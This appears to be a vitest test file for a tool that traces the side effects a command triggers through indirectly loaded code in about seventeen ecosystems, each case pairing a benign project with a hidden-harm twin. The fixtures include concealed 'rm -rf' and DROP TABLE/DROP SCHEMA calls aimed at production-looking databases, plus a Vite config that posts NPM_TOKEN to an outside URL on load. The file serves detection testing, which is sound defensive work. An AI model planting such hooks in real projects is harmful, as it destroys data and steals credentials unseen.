import { expect, test } from 'vitest'
import { effectLines } from '../../testing/effect-lines.ts'

type Files = Readonly<Record<string, string>>

const linesOf = (command: string, files: Files): readonly string[] =>
  effectLines(command, { files: Object.fromEntries(Object.entries(files).map(([name, text]) => [`/w/${name}`, text])) })

interface Twin {
  readonly command: string
  readonly files: (told: string) => Files
  readonly lie: readonly [told: string, line: string]
  readonly honest: string
}

const gone = 'delete /opt/x'
const turbo = '{"tasks":{"test":{"dependsOn":["^build","prep"]},"prep":{}}}'
const packages: Files = { 'package.json': '{"workspaces":["apps/*"]}' }
const prod = 'postgres://a@db.prod.acme.io/a'

/** What is loaded or started because something names it: a project that lies there, and one that is built alike and does its own work. */
test.each<readonly [name: string, twin: Twin]>([
  [
    'a file that Perl requires from beside itself',
    {
      command: 'perl tools/a.pl',
      files: (told) => ({
        'tools/a.pl': 'use FindBin qw($Bin);\nrequire "$Bin/lib.pl";\nprepare();\n',
        'tools/lib.pl': `sub prepare {\n  system("rm -rf ${told}");\n}\n1;\n`,
      }),
      lie: ['/opt/x', gone],
      honest: 'dist',
    },
  ],
  [
    'what a function of R gives back',
    {
      command: 'Rscript a.R',
      files: (told) => ({
        'a.R': 'source("b.R")\nprepare()\n',
        'b.R': `place <- function() file.path("${told}", "x")\nprepare <- function() {\n  unlink(place(), recursive = TRUE)\n}\n`,
      }),
      lie: ['/opt', gone],
      honest: 'dist',
    },
  ],
  [
    'what a function of Julia gives back',
    {
      command: 'julia a.jl',
      files: (told) => ({
        'a.jl': 'include("b.jl")\nprepare()\n',
        'b.jl': `function place()\n    joinpath("${told}", "x")\nend\n\nfunction prepare()\n    rm(place(); recursive=true)\nend\n`,
      }),
      lie: ['/opt', gone],
      honest: 'dist',
    },
  ],
  [
    'a token that settings send off as they are loaded',
    {
      command: 'vite build',
      files: (told) => ({
        'vite.config.ts': "import { report } from './report'\nreport()\nexport default {}\n",
        'report.ts': `export function report() {\n  const token = process.env.${told}\n  fetch('https://stats.acme.io/e', { method: 'POST', body: JSON.stringify({ token }) })\n}\n`,
      }),
      lie: ['NPM_TOKEN', 'send:data https://stats.acme.io/e'],
      honest: 'THEME',
    },
  ],
  [
    'a task that turbo runs before another',
    {
      command: 'turbo run test',
      files: (told) => ({
        ...packages,
        'turbo.json': turbo,
        'apps/a/package.json': `{"name":"a","scripts":{"test":"node --test","prep":"rm -rf ${told}"}}`,
      }),
      lie: ['/opt/x', gone],
      honest: 'dist',
    },
  ],
  [
    'a target that nx runs before another',
    {
      command: 'nx build a',
      files: (told) => ({
        ...packages,
        'nx.json': '{"targetDefaults":{"build":{"dependsOn":[{"target":"prep"}]}}}',
        'apps/a/package.json': `{"name":"a","scripts":{"build":"node --test","prep":"rm -rf ${told}"}}`,
      }),
      lie: ['/opt/x', gone],
      honest: 'dist',
    },
  ],
  [
    'a compiler of a mix project',
    {
      command: 'mix compile',
      files: (told) => ({
        'mix.exs': 'defmodule A do\n  def project, do: [app: :a, compilers: [:assets] ++ Mix.compilers()]\nend\n',
        'lib/mix/tasks/compile.assets.ex': `defmodule Mix.Tasks.Compile.Assets do\n  def run(_) do\n    File.rm_rf!("${told}")\n  end\nend\n`,
      }),
      lie: ['/opt/x', gone],
      honest: '_build/old',
    },
  ],
  [
    'tests in a folder that deno is told',
    {
      command: 'deno test -A tests/',
      files: (told) => ({ 'tests/a_test.ts': `await Deno.remove('${told}', { recursive: true })\nDeno.test('a', () => {})\n` }),
      lie: ['/opt/x', gone],
      honest: 'dist',
    },
  ],
  [
    'a class that the settings of Django name',
    {
      command: 'python manage.py test',
      files: (told) => ({
        'manage.py': 'import os\nos.environ.setdefault("DJANGO_SETTINGS_MODULE", "core.settings")\n',
        'core/settings.py': 'TEST_RUNNER = "core.runner.Clean"\n',
        'core/runner.py': `import shutil\nclass Clean(DiscoverRunner):\n  def setup_test_environment(self):\n    shutil.rmtree("${told}")\n`,
      }),
      lie: ['/opt/x', gone],
      honest: 'dist',
    },
  ],
  [
    'a notebook, which runs in its own folder',
    {
      command: 'jupyter nbconvert --execute notes/a.ipynb',
      files: (told) => ({ 'notes/a.ipynb': JSON.stringify({ cells: [{ cell_type: 'code', source: [`!rm -rf ${told}\n`] }] }) }),
      lie: ['../../opt/x', gone],
      honest: '../opt/x',
    },
  ],
  [
    'a path from beside the file of a function that another calls',
    {
      command: 'node a.js',
      files: (told) => ({
        'a.js': "require('./tools/b').clean()\n",
        'tools/b.js': `const fs = require('fs'), path = require('path')\nexports.clean = () => fs.rmSync(path.resolve(__dirname, '${told}'), { recursive: true })\n`,
      }),
      lie: ['../../opt/x', gone],
      honest: '../opt/x',
    },
  ],
  [
    'a function that a manifest names to be started',
    {
      command: 'poe clean',
      files: (told) => ({
        'pyproject.toml': '[tool.poe.tasks]\nclean = { script = "tasks.clean:run" }\n',
        'tasks/clean.py': `import shutil\nPLACES = [name for name in ("${told}",)]\ndef run():\n  for place in PLACES:\n    shutil.rmtree(place)\n`,
      }),
      lie: ['/opt/x', gone],
      honest: 'dist',
    },
  ],
  [
    'what hatch runs before it makes an environment',
    {
      command: 'hatch run test',
      files: (told) => ({
        'pyproject.toml': `[tool.hatch.envs.default]\npre-install-commands = ["rm -rf ${told}"]\n[tool.hatch.envs.default.scripts]\ntest = "pytest"\n`,
      }),
      lie: ['/opt/x', gone],
      honest: 'dist',
    },
  ],
  [
    'statements of files that a program goes through',
    {
      command: 'node a.mjs',
      files: (told) => ({
        'a.mjs': `import { globSync } from 'glob'\nimport { readFileSync } from 'node:fs'\nimport Database from 'better-sqlite3'\nconst client = new Database(${told})\nfor (const file of globSync('db/*.sql')) client.exec(readFileSync(file, 'utf8'))\n`,
        'db/a.sql': 'CREATE TABLE b (c int);\nDROP TABLE a;\n',
      }),
      lie: ['process.env.DATABASE_FILE', 'database:write DROP TABLE a'],
      honest: "':memory:'",
    },
  ],
  [
    'a package of Go that empties what others live on',
    {
      command: 'go run .',
      files: (told) => ({
        'go.mod': 'module acme.io/a\n',
        'main.go': 'package main\n\nimport "acme.io/a/internal/store"\n\nfunc main() {\n\tstore.Prepare()\n}\n',
        'internal/store/store.go': `package store\n\nfunc Prepare() {\n\tdb, _ := sql.Open("postgres", "${told}")\n\tdb.Exec("DROP SCHEMA public CASCADE")\n}\n`,
      }),
      lie: [prod, 'database:write Exec("DROP SCHEMA'],
      honest: 'postgres://a@localhost/a_test',
    },
  ],
  [
    'a database by its DSN',
    {
      command: 'phpunit',
      files: (told) => ({
        'phpunit.xml': '<phpunit bootstrap="tests/bootstrap.php"></phpunit>',
        'tests/bootstrap.php': "<?php\nrequire __DIR__ . '/Store.php';\nStore::reset();\n",
        'tests/Store.php': `<?php\nclass Store\n{\n    public static function reset()\n    {\n        $pdo = new PDO('${told}');\n        $pdo->exec('DROP TABLE orders');\n    }\n}\n`,
      }),
      lie: ['mysql:host=db.acme.io;dbname=a', 'database:write'],
      honest: 'mysql:host=localhost;dbname=a_test',
    },
  ],
  [
    'a rule of dune',
    {
      command: 'dune build',
      files: (told) => ({ 'bin/dune': `(rule (targets a.ml) (action (with-stdout-to a.ml (run bash -c "${told}"))))\n` }),
      lie: ['rm -rf /opt/x', gone],
      honest: 'echo let a = 1',
    },
  ],
])('%s', (_name, { command, files, lie: [told, line], honest }) => {
  expect(linesOf(command, files(told)).filter((one) => one.startsWith(line))).not.toEqual([])
  const own = linesOf(command, files(honest)).filter((one) => /^(?:unknown|send|database|delete [/~]|execute:arbitrary)/.test(one))
  expect(own).toEqual([])
})
